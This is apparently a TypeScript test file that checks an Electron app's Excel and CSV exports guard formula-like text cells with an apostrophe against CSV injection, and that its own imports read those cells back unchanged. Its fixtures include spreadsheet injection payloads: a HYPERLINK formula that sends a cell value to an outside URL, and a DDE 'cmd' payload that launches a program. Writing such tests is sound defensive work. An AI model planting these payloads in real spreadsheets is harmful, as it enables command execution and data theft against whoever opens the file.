// Issue 11 item 6: the spreadsheets the app writes hold no text a spreadsheet could run. Every
// text cell that starts with = + - @, a tab or a carriage return is written behind an apostrophe
// (OWASP's advice against CSV injection), numbers stay numbers, and the app's own import reads
// such a cell back as the original text, so an exported "Dữ liệu" sheet imported into another
// data file gives exactly the same names. The exchange file is JSON, never a spreadsheet: it
// carries such names untouched.
import ExcelJS from 'exceljs';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { fixedClock } from '../../electron/backend/context';
import { writeReportXlsx } from '../../electron/backend/reports/xlsx';
import type { TestBackend } from '../helpers/backend';
import { addUnit, cleanupTemp, makeBackend, makeTempDir, namesIn } from '../helpers/backend';
import type { HandUnit } from '../helpers/hand-report';
import { exportFile, importFiles, makeProvince } from '../helpers/exchange-sites';
import { LANG_SON_DOCUMENT, handReport } from '../helpers/hand-report';
import { readWorkbook, sheetOf } from '../helpers/xlsx-read';

afterEach(cleanupTemp);

const CLOCK = fixedClock('2018-01-20T12:00:00Z');

/** Names a spreadsheet would run, or would once the sheet is saved as CSV and opened again. */
const TRICKY_NAMES = [
  '=HYPERLINK("http://example.com/?d="&B2,"Bấm vào đây")',
  '+1',
  '-x',
  '@SUM(A1:A9)',
  // Already behind an apostrophe: must come back with it, not lose it.
  "'=Chi bộ có dấu nháy",
];

/** A text that starts like a formula (what no written text cell may do). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A committee with a unit under it for each tricky name, rated in 2016 and 2017. */
function trickyRegister(): { b: TestBackend; committee: string; units: HandUnit[] } {
  const b = makeBackend({ clock: CLOCK });
  const committee = addUnit(b, 'Đảng bộ Khối doanh nghiệp tỉnh', 2008, {
    kind: 'upper_committee',
  }).id;
  const units = TRICKY_NAMES.map((name) => {
    const id = addUnit(b, name, 2008, { parentId: committee, sector: 'enterprise' }).id;
    return { id, name, from: null, to: null };
  });
  for (const year of [2016, 2017]) {
    b.call('ratings.saveYear', {
      year,
      entries: units.map((u) => ({ unitId: u.id, levelCode: 'HTTNV' })),
    });
  }
  return { b, committee, units };
}

async function exportXlsx(b: TestBackend, committee: string): Promise<string> {
  const exported = await b.callAsync('reports.export', {
    year: 2017,
    scope: { type: 'register', unitId: committee },
    format: 'xlsx',
    document: LANG_SON_DOCUMENT,
  });
  return b.ctx.files.pathOf(exported.file.handle);
}

/** Every cell of every sheet holding a value (merged cells once). */
function cellsOf(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type !== ExcelJS.ValueType.Merge) cells.push(cell);
      }),
    );
  }
  return cells;
}

function stringCells(workbook: ExcelJS.Workbook): string[] {
  return cellsOf(workbook)
    .filter((c) => c.type === ExcelJS.ValueType.String)
    .map((c) => String(c.value));
}

describe('text cells of the Excel report', () => {
  test('names like =HYPERLINK(…), +1, -x and @SUM are written behind an apostrophe, numbers stay numbers', async () => {
    const { b, committee } = trickyRegister();
    const before = b.snapshot();
    const workbook = await readWorkbook(await exportXlsx(b, committee));
    expect(b.snapshot()).toBe(before);

    const texts = stringCells(workbook);
    expect(texts.filter((t) => FORMULA_START.test(t))).toEqual([]);
    for (const name of TRICKY_NAMES) expect(texts).toContain(`'${name}`);
    for (const cell of cellsOf(workbook)) expect(cell.formula, cell.address).toBeUndefined();

    // The years of "Dữ liệu" are numbers, not text (nothing guarded them).
    const data = sheetOf(workbook, 'Dữ liệu');
    const years = new Set<unknown>();
    data.eachRow((row, n) => {
      if (n > 1) years.add(row.getCell(6).value);
    });
    expect([...years].sort()).toEqual([2016, 2017]);
  });

  test('a text led by a tab or a carriage return is guarded too (a group of the summary sheet)', async () => {
    const b = makeBackend({ clock: CLOCK });
    const path = join(makeTempDir(), 'bieu.xlsx');
    const report = handReport(2017, 2016, [
      { key: 'tab', name: '\t=cmd|" /C calc"!A0', units: [] },
      { key: 'cr', name: '\r+1', units: [] },
    ]);
    await writeReportXlsx(b.ctx.db, report, LANG_SON_DOCUMENT, path);
    const texts = stringCells(await readWorkbook(path));
    expect(texts).toContain('\'\t=cmd|" /C calc"!A0');
    // An XML reader turns the stored carriage return into a line feed (XML 1.0 §2.11).
    expect(texts.filter((t) => /^'[\r\n]\+1$/.test(t))).toHaveLength(1);
    expect(texts.filter((t) => FORMULA_START.test(t))).toEqual([]);
  });
});

describe('the app reads its own guarded cells back as the original text', () => {
  test('the "Dữ liệu" sheet imported into another data file creates the units under the same names', async () => {
    const { b, committee } = trickyRegister();
    const path = await exportXlsx(b, committee);

    const other = makeBackend({ clock: CLOCK });
    const preview = await other.callAsync('ratings.importPreview', {
      file: other.ctx.files.register(path).handle,
      sheet: 'Dữ liệu',
    });
    expect(preview.errors).toEqual([]);
    expect(preview.newUnits.map((u) => u.name).sort()).toEqual(
      [...TRICKY_NAMES, 'Đảng bộ Khối doanh nghiệp tỉnh'].sort(),
    );
    other.call('ratings.importApply', { planId: preview.planId });
    expect(namesIn(other, 2017).sort()).toEqual(namesIn(b, 2017).sort());
  });

  test('re-imported into the same file, the sheet changes nothing', async () => {
    const { b, committee } = trickyRegister();
    const path = await exportXlsx(b, committee);
    const before = b.snapshot();
    const preview = await b.callAsync('ratings.importPreview', {
      file: b.ctx.files.register(path).handle,
      sheet: 'Dữ liệu',
    });
    expect(preview.errors).toEqual([]);
    expect(preview.newUnits).toEqual([]);
    expect(preview.changedRatings).toEqual([]);
    expect(preview.unchanged).toBe(TRICKY_NAMES.length * 2);
    b.call('ratings.importApply', { planId: preview.planId });
    expect(b.snapshot()).toBe(before);
  });

  test('a CSV with guarded cells reads them unguarded; one apostrophe is taken, never more', async () => {
    const b = makeBackend({ clock: CLOCK });
    const dir = join(makeTempDir(), 'tep');
    mkdirSync(dir, { recursive: true });
    const path = join(dir, 'xep-loai.csv');
    const lines = [
      'Tên tổ chức,Cấp trên,Năm,Xếp loại',
      '"\'=HYPERLINK(""http://example.com"",""x"")",Đảng ủy Khối,2017,HTTNV',
      "'+1,Đảng ủy Khối,2017,HTTNV",
      "''=x,Đảng ủy Khối,2017,HTTNV",
      // Not guarded by the app: an apostrophe before ordinary text stays.
      "'Chi bộ Nhà máy,Đảng ủy Khối,2017,HTTNV",
    ];
    writeFileSync(path, '\uFEFF' + lines.join('\r\n'));
    const preview = await b.callAsync('ratings.importPreview', {
      file: b.ctx.files.register(path).handle,
    });
    expect(preview.errors).toEqual([]);
    expect(preview.newUnits.map((u) => u.name)).toEqual([
      'Đảng ủy Khối',
      '=HYPERLINK("http://example.com","x")',
      '+1',
      "'=x",
      "'Chi bộ Nhà máy",
    ]);
  });
});

describe('the exchange file', () => {
  test('carries names like =HYPERLINK(…) and +1 as they are, with no apostrophe added', async () => {
    const province = makeProvince();
    const parentId = province.provinceId;
    for (const name of TRICKY_NAMES) {
      province.backend.call('units.create', { name, kind: 'base_cell', parentId });
    }
    const master = await exportFile(province.backend);
    const other = makeBackend();
    const { preview } = await importFiles(other, [master.path]);
    expect(preview.files.flatMap((f) => f.errors)).toEqual([]);
    const received = namesIn(other, 2017);
    for (const name of TRICKY_NAMES) expect(received).toContain(name);
    expect(received.sort()).toEqual(namesIn(province.backend, 2017).sort());
  });
});
